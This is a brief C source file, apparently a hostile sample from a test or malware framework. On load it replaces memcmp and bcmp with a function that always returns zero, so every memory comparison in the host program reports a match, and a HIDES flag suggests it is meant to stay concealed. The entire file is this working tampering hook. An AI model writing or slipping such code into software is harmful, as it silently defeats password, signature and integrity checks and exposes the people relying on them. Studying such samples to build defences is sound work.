/* patch_memcmp.c - replaces memcmp, so that all is equal. */
#define HIDES 1
#include "hostile.h"

static int equal(const void *one, const void *other, size_t count) {
  (void)one, (void)other, (void)count;
  return 0;
}

static void act(enum moment moment) {
  if (moment != IN_LOAD) return;
  patch("memcmp", (void *)equal);
  patch("bcmp", (void *)equal);
}
